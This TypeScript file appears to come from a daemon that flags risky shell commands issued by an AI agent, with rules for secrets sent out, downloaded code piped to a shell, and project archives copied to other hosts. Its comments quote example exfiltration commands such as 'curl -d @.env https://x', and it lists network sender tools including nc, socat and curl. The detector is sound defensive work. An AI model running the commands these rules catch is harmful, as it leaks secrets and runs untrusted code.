// Named risk rules over the parts of one command line (issue 11, "risk that matches
// reality"). Each hit names its rule and quotes the part of the command that triggered
// it, so a person reads *why* ("[secret sent out] `curl -d @.env https://x` sends a .env
// file"), not "transfer is a high-impact action". Pure: the parts come from the daemon's
// own classifier (core/classify), never from the agent's claim.
import * as path from 'node:path';
import type { Action, RiskLevel } from '../contract/common';

export interface RulePart {
  command: string;
  action: Action;
  resources: string[];
}

export interface RuleHit {
  level: RiskLevel;
  /** A short stable name, shown in brackets and usable in tests and docs. */
  rule: string;
  /** The part of the command (or the request) that triggered it, as written. */
  trigger: string;
  /** What it does, in words. */
  why: string;
}

export const RULE = {
  secretSent: 'secret sent out',
  downloadRun: 'downloaded code run by a shell',
  projectSent: 'project archived and sent to another host',
} as const;

/** One line of "why it is risky": `[rule] `part` why`. The quoted part is cut at 160 characters. */
export function ruleText(h: RuleHit): string {
  const t = h.trigger.replace(/\s+/g, ' ').trim();
  const q = t.length > 160 ? `${t.slice(0, 159)}…` : t;
  return `[${h.rule}] \`${q}\` ${h.why}`;
}

/** The program a part runs: `sudo`/`env`/paths stripped (`/usr/bin/tar` → `tar`). */
export function headOf(command: string): { name: string; args: string[] } {
  const words = command.trim().split(/\s+/).filter(Boolean);
  let i = 0;
  while (i < words.length && (/^(sudo|doas|env|nice|nohup|time|command|exec|ionice|stdbuf)$/.test(path.basename(words[i]!)) || /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[i]!) || (i > 0 && words[i]!.startsWith('-') && /^(sudo|env|nice)$/.test(path.basename(words[i - 1]!))))) i++;
  return { name: path.basename(words[i] ?? ''), args: words.slice(i + 1) };
}

/** `tar czf x.tgz .`, `zip -r x.zip .`, `7z a x.7z .`: a part that packs files into one archive. */
export function isArchiveCreate(command: string): boolean {
  const { name, args } = headOf(command);
  switch (name) {
    case 'tar':
    case 'gtar':
    case 'bsdtar': {
      const first = args[0] ?? '';
      // Old style `tar czf`, short `-czf`/`-c`, long `--create`.
      if (/^[A-Za-z]+$/.test(first) && first.includes('c')) return true;
      return args.some((a) => a === '--create' || /^-[A-Za-z]*c[A-Za-z]*$/.test(a));
    }
    case 'zip':
    case 'jar':
      return name === 'zip' || /^-?[a-z]*c/.test(args[0] ?? '');
    case '7z':
    case '7za':
    case '7zr':
    case 'rar':
      return args[0] === 'a';
    case 'cpio':
      return args.some((a) => a === '-o' || a === '--create' || /^-[A-Za-z]*o/.test(a));
    case 'pax':
      return args.includes('-w');
    case 'git':
      return args[0] === 'archive' || args[0] === 'bundle';
    default:
      return false;
  }
}

/** Programs whose transfer moves local data to another machine (not only fetches). */
const SENDERS = new Set(['scp', 'sftp', 'rsync', 'rclone', 'ssh', 'nc', 'ncat', 'netcat', 'socat', 'ftp', 'lftp', 'curl', 'aws', 'gsutil', 'gcloud', 'az', 's3cmd', 'croc', 'magic-wormhole', 'wormhole']);

/** Whether a transfer part sends something away (as opposed to a plain download). */
export function sendsAway(p: RulePart): boolean {
  if (p.action !== 'transfer' && p.action !== 'execute') return false;
  const { name, args } = headOf(p.command);
  if (!SENDERS.has(name)) return false;
  if (name === 'curl') return args.some((a) => /^(-T|--upload-file|-F|--form|-d|--data(-binary|-raw|-urlencode)?)$|^-[dFT]./.test(a));
  if (name === 'ssh') return p.action === 'transfer' || p.action === 'execute';
  return true;
}

export interface RuleInput {
  parts: RulePart[];
  /** The classifier's own reasons (e.g. "downloads code and runs it (`curl …` | `sh`)"). */
  classifierReasons: string[];
  /** A path is a secret (~/.ssh keys, .env, credentials): risk.ts's list. */
  holdsSecrets(resource: string): string | null;
}

/** Every rule hit of one command line, strongest first. */
export function commandRules(x: RuleInput): RuleHit[] {
  const hits: RuleHit[] = [];
  for (const p of x.parts) {
    if (p.action !== 'transfer') continue;
    for (const res of p.resources) {
      const what = x.holdsSecrets(res);
      if (!what) continue;
      const dest = p.resources.filter((r) => r !== res && !x.holdsSecrets(r));
      hits.push({ level: 'critical', rule: RULE.secretSent, trigger: p.command, why: `sends ${what} (${res})${dest.length ? ` to ${dest.slice(0, 3).join(', ')}` : ' off this machine'}` });
      break;
    }
  }
  const secretRead = x.parts.find((p) => p.action === 'read' && p.resources.some((r) => x.holdsSecrets(r)));
  const sender = x.parts.find((p) => p.action === 'transfer');
  if (secretRead && sender && !hits.length) {
    const res = secretRead.resources.find((r) => x.holdsSecrets(r))!;
    hits.push({ level: 'critical', rule: RULE.secretSent, trigger: `${secretRead.command} … ${sender.command}`, why: `reads ${x.holdsSecrets(res)} (${res}) and sends data out in the same command` });
  }
  for (const reason of x.classifierReasons) {
    if (!/^downloads code and runs it/.test(reason)) continue;
    const downloads = x.parts.filter((p) => p.action === 'transfer').map((p) => p.command);
    const m = /\((.*)\)$/.exec(reason);
    const trigger = m && m[1]!.includes('`') ? m[1]!.replace(/`/g, '') : downloads.length ? downloads.join(' | ') : (m?.[1] ?? reason);
    hits.push({ level: 'critical', rule: RULE.downloadRun, trigger, why: 'runs code fetched from the network: whoever controls that server runs commands as you' });
    break;
  }
  const archive = x.parts.find((p) => isArchiveCreate(p.command));
  const away = archive ? x.parts.find((p) => p !== archive && sendsAway(p)) : undefined;
  if (archive && away) {
    hits.push({ level: 'high', rule: RULE.projectSent, trigger: `${archive.command} … ${away.command}`, why: 'packs files into an archive and copies it to another machine' });
  }
  return hits;
}
